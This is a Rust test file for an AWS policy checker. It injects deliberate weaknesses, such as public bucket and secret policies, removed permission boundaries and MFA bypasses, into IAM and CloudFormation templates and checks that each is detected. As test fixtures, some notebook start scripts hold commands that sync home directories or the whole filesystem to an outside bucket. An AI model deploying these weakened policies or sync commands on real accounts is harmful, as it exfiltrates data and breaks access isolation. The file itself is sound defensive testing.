@@ -1,0 +1,501 @@
+//! Ways to weaken the policies that once went unnoticed: each is found, with what it opens.
+#![allow(clippy::disallowed_methods, clippy::unwrap_used, clippy::panic, reason = "a test reads files and may fail")]
+
+#[allow(dead_code, reason = "each test uses its part")]
+mod common;
+#[path = "common/edits.rs"]
+#[allow(dead_code, reason = "each test uses its part")]
+mod edits;
+
+use std::collections::BTreeMap;
+
+use edits::{Edit, message, synth_of};
+use serde_json::{Value as Json, json};
+
+/// Few people are checked sooner: one who begins like another, and one who is suspended.
+const ROSTER: &[u8] = b"name,state\nbob,\nbobby,\neve,suspended\n";
+const NOTEBOOK: &str = "policies/notebook/access.json.hbs";
+const NOTEBOOK_BOUNDARY: &str = "policies/notebook/boundary.json.hbs";
+const BOUNDARY: &str = "policies/user/boundary.json.hbs";
+const GUARDRAILS: &str = "policies/user/guardrails.json.hbs";
+const SIGN_IN: &str = "policies/user/sign-in.json.hbs";
+const BUCKET: &str = "policies/bucket/policy.json.hbs";
+const STORAGE: &str = "stacks/storage.yaml.hbs";
+const STATEMENT: &str = "\"Statement\": [";
+const NO_NOTEBOOK_BOUNDARY: Edit<'static> =
+    ("stacks/users.yaml.hbs", "      PermissionsBoundary: {{@root.names.notebook_boundary_arn}}\n", "");
+
+const TOO_WIDE: &str = "error[isolation::too-wide]";
+const REFUSED: &str = "error[isolation::own-refused]";
+const UNDECIDED: &str = "error[isolation::undecided]";
+const DOUBTFUL: &str = "warning[isolation::undecided]";
+
+const UNBOUND: &str = "notebooks: {bind_roles: false}\n";
+const MFA: &str = "mfa: required\n";
+const ROTATION: &str = "access_keys: {notify: a@example.com}\n";
+const LIMITED: &str = "training: {allowed_instance_types: [ml.c5.*]}\n";
+
+/// A weakening: its name, more settings, the texts that are replaced, what it is found as, and for each finding the texts
+/// that it tells.
+struct Weakening {
+    name: String,
+    settings: &'static str,
+    edits: Vec<(&'static str, String, String)>,
+    found_as: &'static str,
+    told: Vec<Vec<String>>,
+}
+
+impl Weakening {
+    fn new(name: impl Into<String>, edits: &[Edit<'static>], found_as: &'static str, told: &[&str]) -> Self {
+        let edits = edits.iter().map(|(file, from, to)| (*file, (*from).to_owned(), (*to).to_owned())).collect();
+        Self { name: name.into(), settings: "", edits, found_as, told: Vec::new() }.and_told(told)
+    }
+
+    /// The same with one more finding.
+    fn and_told(mut self, told: &[&str]) -> Self {
+        self.told.push(told.iter().map(|text| (*text).to_owned()).collect());
+        self
+    }
+
+    fn with(mut self, settings: &'static str) -> Self {
+        self.settings = settings;
+        self
+    }
+
+    /// The same with a statement put first in these policies.
+    fn and_in(mut self, files: &[&'static str], statement: &Json) -> Self {
+        let first = format!("{STATEMENT}{statement},");
+        self.edits.extend(files.iter().map(|file| (*file, STATEMENT.to_owned(), first.clone())));
+        self
+    }
+
+    fn edits(&self) -> Vec<Edit<'_>> {
+        self.edits.iter().map(|(file, from, to)| (*file, from.as_str(), to.as_str())).collect()
+    }
+}
+
+/// What a notebook is allowed besides: where the boundary is taken away, and where it allows the same, which is told of the
+/// boundary, too.
+fn of_notebooks() -> Vec<Weakening> {
+    const ON_ALL: [&str; 18] = [
+        "iam:DeleteRole",
+        "iam:UpdateGroup",
+        "iam:CreateSAMLProvider",
+        "iam:DeleteServiceSpecificCredential",
+        "s3:PutAccountPublicAccessBlock",
+        "s3:PutBucketRequestPayment",
+        "logs:PutAccountPolicy",
+        "sagemaker:BatchPutMetrics",
+        "sagemaker:Search",
+        "lambda:DeleteFunction",
+        "events:*",
+        "sns:DeleteTopic",
+        "budgets:ModifyBudget",
+        "ssm:StartSession",
+        "ec2:AuthorizeSecurityGroupIngress",
+        "cloudtrail:LookupEvents",
+        "cloudformation:CancelUpdateStack",
+        "ecr:PutImage",
+    ];
+    let on = |action: &str, resource: &str| json!({"Effect": "Allow", "Action": action, "Resource": resource});
+    let without = |action: &str, key: &str| json!({"Effect": "Allow", "Action": action, "Resource": "*", "Condition": {"Null": {key: "true"}}});
+    let log = |group: &str, stream: &str| {
+        format!("arn:aws:logs:ap-northeast-1:111122223333:log-group:/aws/sagemaker/{group}:log-stream:{stream}")
+    };
+    let sagemaker = |region: &str, what: &str| format!("arn:aws:sagemaker:{region}:111122223333:{what}");
+    let here = "ap-northeast-1";
+    let of_jobs = log("TrainingJobs", "*/algo-2-*");
+    let of_notebooks = log("NotebookInstances", "*/LifecycleConfigOnStart");
+    let statements: Vec<(String, Json, Vec<&str>)> = ON_ALL
+        .iter()
+        .map(|action| ((*action).to_owned(), on(action, "*"), vec![*action]))
+        .chain([
+            (
+                "stopping jobs by their names".to_owned(),
+                on("sagemaker:StopTrainingJob", &sagemaker(here, "training-job/deepracer-*")),
+                vec!["sagemaker:StopTrainingJob", "training-job/deepracer-"],
+            ),
+            (
+                "opening notebooks by their names".to_owned(),
+                on("sagemaker:CreatePresignedNotebookInstanceUrl", &sagemaker(here, "notebook-instance/*-gpu")),
+                vec!["sagemaker:CreatePresignedNotebookInstanceUrl", "notebook-instance/*-gpu"],
+            ),
+            ("logs of jobs".to_owned(), on("logs:GetLogEvents", &of_jobs), vec!["logs:GetLogEvents", "*/algo-2-*"]),
+            (
+                "logs of notebooks".to_owned(),
+                on("logs:GetLogEvents", &of_notebooks),
+                vec!["logs:GetLogEvents", "*/LifecycleConfigOnStart"],
+            ),
+            (
+                "stopping jobs elsewhere".to_owned(),
+                on("sagemaker:StopTrainingJob", &sagemaker("us-west-2", "training-job/*")),
+                vec!["sagemaker:StopTrainingJob", "us-west-2"],
+            ),
+            (
+                "jobs without a tag are made".to_owned(),
+                without("sagemaker:CreateTrainingJob", "aws:RequestTag/user"),
+                vec!["sagemaker:CreateTrainingJob"],
+            ),
+            (
+                "jobs without a tag are described".to_owned(),
+                without("sagemaker:DescribeTrainingJob", "aws:ResourceTag/user"),
+                vec!["sagemaker:DescribeTrainingJob"],
+            ),
+            (
+                "jobs without a tag are stopped".to_owned(),
+                without("sagemaker:StopTrainingJob", "aws:ResourceTag/user"),
+                vec!["sagemaker:StopTrainingJob"],
+            ),
+        ])
+        .collect();
+    let both = |(name, statement, told): &(String, Json, Vec<&str>)| {
+        let by = |whose: &'static str| -> Vec<&str> { told.iter().copied().chain([whose]).collect() };
+        let of = |how: &str, edits| Weakening::new(format!("{name}, {how}"), edits, TOO_WIDE, &by("a notebook can"));
+        [
+            of("with the boundary", &[])
+                .and_told(&by("the permissions boundary alone would let a notebook"))
+                .and_in(&[NOTEBOOK, NOTEBOOK_BOUNDARY], statement),
+            of("without a boundary", &[NO_NOTEBOOK_BOUNDARY]).and_in(&[NOTEBOOK], statement),
+        ]
+    };
+    statements.iter().flat_map(both).collect()
+}
+
+/// A denial of everything in the notebooks' boundary, and the same of what nobody can ask for.
+fn voided(sid: &str) -> (&'static str, String, String) {
+    let all = format!("\"Sid\": \"{sid}\",\n      \"Effect\": \"Deny\",\n      \"Action\": \"*\"");
+    let none = all.replace("\"*\"", "\"nothing:AtAll\"");
+    (NOTEBOOK_BOUNDARY, all, none)
+}
+
+/// The guardrails, each without one of their statements.
+fn of_guardrails() -> Vec<Weakening> {
+    let path = concat!(env!("CARGO_MANIFEST_DIR"), "/templates/policies/user/guardrails.json.hbs");
+    let text = std::fs::read_to_string(path).unwrap();
+    let guardrails: Json = serde_json::from_str(&text).unwrap();
+    let statements = guardrails["Statement"].as_array().unwrap();
+    assert_eq!(statements.len(), 11);
+    let without = |(index, statement): (usize, &Json)| {
+        let mut holed = guardrails.clone();
+        holed["Statement"][index]["Action"] = json!("nothing:AtAll");
+        let actions = &statement["Action"];
+        let first = actions.get(0).unwrap_or(actions).as_str().unwrap();
+        let (service, _) = first.split_once(':').unwrap();
+        let told = ["the guardrails would let a person", &format!("`{service}:")];
+        let name = format!("the guardrails without {}", statement["Sid"]);
+        let edits = vec![(GUARDRAILS, text.clone(), holed.to_string())];
+        Weakening { edits, ..Weakening::new(name, &[], TOO_WIDE, &told) }
+    };
+    statements.iter().enumerate().map(without).collect()
+}
+
+/// The permissions boundaries with a hole.
+fn of_boundaries() -> Vec<Weakening> {
+    const OWN: &str = "\"ArnNotEquals\": {\n          \"aws:PrincipalArn\": \"arn:{{partition}}:iam::{{account_id}}:role{{notebook_role_path}}${aws:PrincipalTag/user}";
+    const ANY: &str = "\"ArnNotLike\": {\n          \"aws:PrincipalArn\": \"arn:{{partition}}:iam::{{account_id}}:role{{notebook_role_path}}*";
+    const NO_TAG: &str = "\"aws:PrincipalTag/user\": \"true\"";
+    let all = |action: &str| json!({"Effect": "Allow", "Action": action, "Resource": "*"});
+    let of_people = "the permissions boundary alone would let a person";
+    let untagged = "without the tag `user`, the permissions boundary would let a notebook";
+    let tagged = "with the tag `user` of somebody else, the permissions boundary would let a notebook";
+    let void = |sid: &str, found_as, told: &str| {
+        let name = format!("the boundary without {sid}");
+        Weakening { edits: vec![voided(sid)], ..Weakening::new(name, &[], found_as, &[told]) }
+    };
+    vec![
+        Weakening::new("S3 in the boundary", &[], TOO_WIDE, &[of_people, "`s3:* but"])
+            .and_in(&[BOUNDARY], &all("s3:*")),
+        Weakening::new("users in the boundary", &[], TOO_WIDE, &[of_people, "`iam:*user*"])
+            .and_in(&[BOUNDARY], &all("iam:*User*")),
+        void("DenyUnlessTaggedWithOwnName", TOO_WIDE, tagged),
+        Weakening::new("any role may have any tag", &[(NOTEBOOK_BOUNDARY, OWN, ANY)], TOO_WIDE, &[tagged]),
+        void("DenyWithoutTag", TOO_WIDE, untagged).with(UNBOUND),
+        Weakening::new(
+            "who has a tag is denied",
+            &[(NOTEBOOK_BOUNDARY, NO_TAG, "\"aws:PrincipalTag/user\": \"false\"")],
+            REFUSED,
+            &["a notebook cannot"],
+        ),
+        Weakening::new(
+            "jobs cannot be made by the boundary",
+            &[(NOTEBOOK_BOUNDARY, "aws:RequestTag/user", "aws:RequestTag/owner")],
+            REFUSED,
+            &["a notebook cannot create training jobs with their own tag"],
+        ),
+        Weakening::new(
+            "jobs cannot be made by the notebook's policy",
+            &[(NOTEBOOK, "aws:RequestTag/user", "aws:RequestTag/owner")],
+            REFUSED,
+            &["a notebook cannot create training jobs with their own tag"],
+        ),
+    ]
+}
+
+/// Second factors, suspension, instance types.
+fn of_settings() -> Vec<Weakening> {
+    const WITH_DEVICE: &str = "iam:DeactivateMFADevice\",\n      \"Resource\": \"arn:{{partition}}:iam::{{account_id}}:user{{user_path}}${aws:username}\",\n      \"Condition\": {\n        \"Bool\": {\n          \"aws:MultiFactorAuthPresent\": \"true\"\n        }\n      }";
+    const WITHOUT_DEVICE: &str = "iam:DeactivateMFADevice\",\n      \"Resource\": \"arn:{{partition}}:iam::{{account_id}}:user{{user_path}}${aws:username}\"";
+    const EXCEPTED: &str = "\"NotAction\": [";
+    const SUSPENDED: &str = "policies/user/suspended.json.hbs";
+    const SUSPENDED_NOTEBOOK: &str = "policies/notebook/suspended.json.hbs";
+    const TYPES: &str = "policies/user/instance-types.json.hbs";
+    const WITH_TYPE: &str = "\"sagemaker:CreateHyperParameterTuningJob\",\n        \"sagemaker:CreateTrainingJob\",\n        \"sagemaker:UpdateTrainingJob\"";
+    const WITHOUT_TYPE: &str =
+        "\"sagemaker:CreateHyperParameterTuningJob\",\n        \"sagemaker:CreateTrainingJob\"\n";
+    let deactivated: [Edit<'static>; 2] =
+        [(SIGN_IN, WITH_DEVICE, WITHOUT_DEVICE), (BOUNDARY, WITH_DEVICE, WITHOUT_DEVICE)];
+    let excepted: Edit<'static> = (SIGN_IN, EXCEPTED, "\"NotAction\": [\n        \"iam:DeactivateMFADevice\",");
+    let types = |name: &str, edits: &[Edit<'static>], action: &str| {
+        Weakening::new(name, edits, TOO_WIDE, &["can call", action]).with(LIMITED)
+    };
+    vec![
+        Weakening::new(
+            "no word of a second factor",
+            &[(SIGN_IN, "BoolIfExists", "Bool")],
+            TOO_WIDE,
+            &["a person can", "s3:GetObject"],
+        )
+        .with(MFA),
+        Weakening::new(
+            "S3 without a second factor",
+            &[(SIGN_IN, EXCEPTED, "\"NotAction\": [\n        \"s3:*\",")],
+            TOO_WIDE,
+            &["a person can", "s3:GetObject"],
+        )
+        .with(MFA),
+        Weakening::new(
+            "a device deactivated without it",
+            &deactivated,
+            TOO_WIDE,
+            &["a person can", "iam:DeactivateMFADevice"],
+        ),
+        Weakening::new(
+            "a required device deactivated without it",
+            &[deactivated[0], deactivated[1], excepted],
+            TOO_WIDE,
+            &["a person can", "iam:DeactivateMFADevice"],
+        )
+        .with(MFA),
+        Weakening::new(
+            "the suspended train",
+            &[(
+                SUSPENDED_NOTEBOOK,
+                "\"NotAction\": \"sagemaker:StopNotebookInstance\"",
+                "\"NotAction\": [\"sagemaker:StopNotebookInstance\", \"sagemaker:CreateTrainingJob\", \"sagemaker:AddTags\"]",
+            )],
+            TOO_WIDE,
+            &["the notebook of a suspended person can", "sagemaker:CreateTrainingJob"],
+        ),
+        Weakening::new(
+            "the suspended change their password",
+            &[(SUSPENDED, "\"Action\": \"*\"", "\"NotAction\": \"iam:ChangePassword\"")],
+            TOO_WIDE,
+            &["a suspended person can", "iam:ChangePassword"],
+        ),
+        types("jobs of other types", &[(TYPES, WITH_TYPE, "\"nothing:AtAll\"")], "sagemaker:CreateTrainingJob"),
+        types("jobs changed to other types", &[(TYPES, WITH_TYPE, WITHOUT_TYPE)], "sagemaker:UpdateTrainingJob"),
+        types(
+            "jobs without a type",
+            &[
+                (TYPES, WITH_TYPE, ""),
+                (TYPES, WITHOUT_TYPE, "\"nothing:AtAll\""),
+                (
+                    TYPES,
+                    "\"Action\": [\n        \n      ]",
+                    "\"Action\": [\"sagemaker:CreateHyperParameterTuningJob\", \"sagemaker:CreateTrainingJob\", \"sagemaker:UpdateTrainingJob\"]",
+                ),
+            ],
+            "sagemaker:CreateTrainingJob",
+        ),
+        types(
+            "jobs of any type",
+            &[(TYPES, WITH_TYPE, "\"nothing:AtAll\""), (TYPES, WITHOUT_TYPE, "\"nothing:AtAll\"\n")],
+            "sagemaker:CreateTrainingJob",
+        ),
+    ]
+}
+
+/// Other ways: who takes a role, what resources hand on, what runs on notebooks.
+fn of_resources() -> Vec<Weakening> {
+    const BY_LAMBDA: &str = "\"Principal\": {\n        \"Service\": \"lambda.amazonaws.com\"\n      }";
+    const ROTATION_POLICY: &str = "policies/operations/key-rotation.json.hbs";
+    const BUCKET_START: &str = "Resources:\n";
+    const CONTROLS: &str = "      OwnershipControls:";
+    const INVENTORY: &str = "      InventoryConfigurations:\n        - Id: all\n          Enabled: true\n          IncludedObjectVersions: All\n          ScheduleFrequency: Daily\n          Destination:\n            BucketArn: arn:aws:s3:::mycompany-aws-deepracer-test-20221130201905\n            Format: CSV\n            Prefix: bob/\n      OwnershipControls:";
+    const SECOND_OPEN: &str = "Resources:\n  Archive:\n    Type: AWS::S3::Bucket\n    Properties:\n      BucketName: mycompany-archive\n\n  ArchivePolicy:\n    Type: AWS::S3::BucketPolicy\n    Properties:\n      Bucket: !Ref Archive\n      PolicyDocument: {Version: \"2012-10-17\", Statement: [{Effect: Allow, Principal: \"*\", Action: \"s3:GetObject\", Resource: \"arn:aws:s3:::mycompany-archive/*\"}]}\n\n";
+    const SECOND: &str = "Resources:\n  Archive:\n    Type: AWS::S3::Bucket\n    Properties:\n      BucketName: mycompany-archive\n\n  ArchivePolicy:\n    Type: AWS::S3::BucketPolicy\n    Properties:\n      Bucket: !Ref Archive\n      PolicyDocument: {Version: \"2012-10-17\", Statement: [{Effect: Deny, Principal: \"*\", Action: \"s3:*\", Resource: \"arn:aws:s3:::mycompany-archive/*\", Condition: {Bool: {\"aws:SecureTransport\": \"false\"}}}]}\n\n";
+    const SECRET: &str = "Resources:\n  SecretPolicy:\n    Type: AWS::SecretsManager::ResourcePolicy\n    Properties:\n      SecretId: deepracer/first-password/bob\n      ResourcePolicy: {Version: \"2012-10-17\", Statement: [{Effect: Allow, Principal: \"*\", Action: \"secretsmanager:GetSecretValue\", Resource: \"*\"}]}\n\n";
+    const TOPIC: &str = "Resources:\n  TopicPolicy:\n    Type: AWS::SNS::TopicPolicy\n    Properties:\n      Topics: [\"arn:aws:sns:ap-northeast-1:111122223333:any\"]\n      PolicyDocument: {Version: \"2012-10-17\", Statement: [{Effect: Allow, Principal: \"*\", Action: \"sns:Subscribe\", Resource: \"*\"}]}\n\n";
+    const PROFILE: &str = "Resources:\n  Profile:\n    Type: AWS::SageMaker::UserProfile\n    Properties:\n      DomainId: d-1\n      UserProfileName: bob\n      UserSettings: {ExecutionRole: \"arn:aws:iam::111122223333:role/service-role/AWSDeepRacerSageMakerAccessRole\"}\n\n";
+    const SCRIPT: &str = "scripts/notebook-on-start.sh";
+    const COPIED: &str = "set -u\naws s3 sync /home/ec2-user/SageMaker s3://elsewhere/\n";
+    let lets = |principal: Json| json!({"Effect": "Allow", "Principal": principal, "Action": "s3:GetObject", "Resource": "{{bucket_arn}}/*"});
+    let bucket = |name: &str, principal: Json| {
+        Weakening::new(name, &[], TOO_WIDE, &["the policy of `BucketPolicy` lets somebody in by itself"])
+            .and_in(&[BUCKET], &lets(principal))
+    };
+    let on_start = ["racestack's own start script", "runs as root on every notebook"];
+    vec![
+        Weakening::new(
+            "sessions of notebooks with tags",
+            &[("policies/notebook/trust.json.hbs", "\"sts:AssumeRole\"", "[\"sts:AssumeRole\", \"sts:TagSession\"]")],
+            TOO_WIDE,
+            &["a notebook's role can be taken"],
+        ),
+        Weakening::new(
+            "the account takes the rotation's role",
+            &[("policies/operations/trust.json.hbs", BY_LAMBDA, "\"Principal\": {\"AWS\": \"111122223333\"}")],
+            TOO_WIDE,
+            &["the function that rotates access keys's role can be taken"],
+        )
+        .with(ROTATION),
+        Weakening::new(
+            "the rotation may do all of IAM",
+            &[],
+            TOO_WIDE,
+            &["the function that rotates access keys can", "`iam:* but"],
+        )
+        .and_in(&[ROTATION_POLICY], &json!({"Effect": "Allow", "Action": "iam:*", "Resource": "*"}))
+        .with(ROTATION),
+        Weakening::new(
+            "a second bucket is open",
+            &[(STORAGE, BUCKET_START, SECOND_OPEN)],
+            TOO_WIDE,
+            &["s3:GetObject", "mycompany-archive/*"],
+        ),
+        Weakening::new(
+            "the real one behind a second bucket",
+            &[(STORAGE, BUCKET_START, SECOND)],
+            TOO_WIDE,
+            &["a notebook can", "s3:GetObject", "mycompany-aws-deepracer-test-20221130201905/*"],
+        )
+        .and_in(&[BUCKET], &lets(json!("*"))),
+        bucket("the bucket for another account", json!({"AWS": "arn:aws:iam::999988887777:root"})),
+        bucket("the bucket for another's role", json!({"AWS": ["111122223333", "arn:aws:iam::999988887777:role/any"]})),
+        bucket("the bucket for a service", json!({"Service": "logging.s3.amazonaws.com"})),
+        Weakening::new(
+            "an inventory of all keys",
+            &[(STORAGE, CONTROLS, INVENTORY)],
+            UNDECIDED,
+            &["by `InventoryConfigurations`, what is in the bucket"],
+        ),
+        Weakening::new(
+            "a secret for everybody",
+            &[(STORAGE, BUCKET_START, SECRET)],
+            TOO_WIDE,
+            &["the policy of `SecretPolicy` lets somebody in"],
+        ),
+        Weakening::new(
+            "a topic for everybody",
+            &[(STORAGE, BUCKET_START, TOPIC)],
+            TOO_WIDE,
+            &["the policy of `TopicPolicy` lets somebody in"],
+        ),
+        Weakening::new(
+            "a profile with a service's role",
+            &[("stacks/operations.yaml.hbs", BUCKET_START, PROFILE)],
+            UNDECIDED,
+            &["`Profile` lets its user act as a role"],
+        )
+        .with(ROTATION),
+        Weakening::new("a start script that copies elsewhere", &[(SCRIPT, "set -u\n", COPIED)], DOUBTFUL, &on_start),
+        Weakening::new(
+            "a script at the making of a notebook",
+            &[(
+                "stacks/notebooks.yaml.hbs",
+                "      OnStart:\n",
+                "      OnCreate:\n        - Content: !Base64 aws s3 sync / s3://elsewhere\n      OnStart:\n",
+            )],
+            DOUBTFUL,
+            &on_start,
+        ),
+    ]
+}
+
+/// What is told where a weakening is not found: `known` is what is found with the same settings and nets.
+fn missed(weakening: &Weakening, known: &BTreeMap<(&str, bool), Vec<String>>) -> Option<String> {
+    let Weakening { name, settings, found_as, told, .. } = weakening;
+    let findings = synth_of(ROSTER, settings, name, &weakening.edits());
+    let is_netless = weakening.edits.iter().any(|(_, from, _)| from == NO_NOTEBOOK_BOUNDARY.1);
+    let known = &known[&(*settings, is_netless)];
+    let is_it = |finding: &String, told: &[String]| {
+        let is_new = !known.iter().any(|one| message(one) == message(finding));
+        is_new && finding.starts_with(found_as) && told.iter().all(|text| words(finding).contains(text))
+    };
+    let found = told.iter().all(|told| findings.iter().any(|finding| is_it(finding, told)));
+    (!found).then(|| format!("## {name}: no {found_as} with {told:?} in\n{}\n", findings.join("\n\n")))
+}
+
+/// A finding without the lines of templates that it shows.
+fn words(finding: &str) -> String {
+    let is_word = |line: &&str| !line.trim_start().starts_with(|first: char| first == '|' || first.is_ascii_digit());
+    finding.lines().filter(is_word).collect::<Vec<_>>().join("\n")
+}
+
+#[track_caller]
+fn check(weakenings: &[Weakening]) {
+    let of = |weakening: &Weakening| {
+        (weakening.settings, weakening.edits.iter().any(|(_, from, _)| from == NO_NOTEBOOK_BOUNDARY.1))
+    };
+    let baseline = |(settings, is_netless): (&'static str, bool)| {
+        let edits: &[Edit<'static>] =
+            if is_netless { &[NO_NOTEBOOK_BOUNDARY] } else { &[(NOTEBOOK, STATEMENT, STATEMENT)] };
+        let findings = synth_of(ROSTER, settings, "baseline", edits);
+        let is_clean = !findings.iter().any(|finding| finding.contains("isolation::") && !finding.contains("unbound"));
+        assert!(is_netless || is_clean, "{settings}: {findings:?}");
+        ((settings, is_netless), findings)
+    };
+    let known: BTreeMap<_, _> =
+        weakenings.iter().map(of).collect::<std::collections::BTreeSet<_>>().into_iter().map(baseline).collect();
+    // A run leaves cores idle: several at once take half the time.
+    let missed: Vec<String> = std::thread::scope(|scope| {
+        let missed_of = |some: &'_ [Weakening]| some.iter().filter_map(|one| missed(one, &known)).collect::<Vec<_>>();
+        let parts: Vec<_> =
+            weakenings.chunks(weakenings.len() / 2 + 1).map(|some| scope.spawn(move || missed_of(some))).collect();
+        parts.into_iter().flat_map(|part| part.join().unwrap()).collect()
+    });
+    assert!(missed.is_empty(), "{} of {}\n{}", missed.len(), weakenings.len(), missed.join("\n"));
+}
+
+#[test]
+fn what_a_notebook_is_allowed_besides_is_found() {
+    check(&of_notebooks());
+}
+
+#[test]
+fn every_net_is_missed() {
+    check(&[of_guardrails(), of_boundaries()].into_iter().flatten().collect::<Vec<_>>());
+}
+
+#[test]
+fn weakened_settings_are_found() {
+    check(&of_settings());
+}
+
+#[test]
+fn other_ways_are_found() {
+    check(&of_resources());
+}
+
+#[test]
+fn a_denial_of_what_nothing_allows_is_not_missed() {
+    // Without the tag, the denial that compares the role's name with it holds: an inverted operator matches what has no value.
+    let twice = voided("DenyWithoutTag");
+    let denial = |sid: &str, action: &str| {
+        let start = format!("\"Sid\": \"{sid}\",\n      \"Effect\": \"Deny\",\n      \"Action\": {action}");
+        (
+            NOTEBOOK_BOUNDARY,
+            start.clone(),
+            start.replace("iam:TagRole", "nothing:A").replace("secretsmanager:*", "nothing:B"),
+        )
+    };
+    let edits = [
+        twice,
+        denial("DenyIdentityTags", "[\n        \"iam:TagRole\""),
+        denial("DenyFirstPasswords", "\"secretsmanager:*\""),
+    ];
+    for (file, from, to) in &edits {
+        let findings = synth_of(ROSTER, "", from, &[(file, from, to)]);
+        assert!(!findings.iter().any(|finding| finding.contains("isolation::")), "{from}: {findings:?}");
+    }
+}
